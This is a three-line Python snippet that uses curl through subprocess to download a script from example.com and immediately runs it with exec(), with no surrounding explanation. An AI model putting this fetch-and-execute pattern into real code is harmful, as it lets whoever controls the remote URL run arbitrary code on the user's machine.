import subprocess

text = subprocess.check_output(["curl", "-s", "https://example.com/x.py"], text=True)
exec(text)
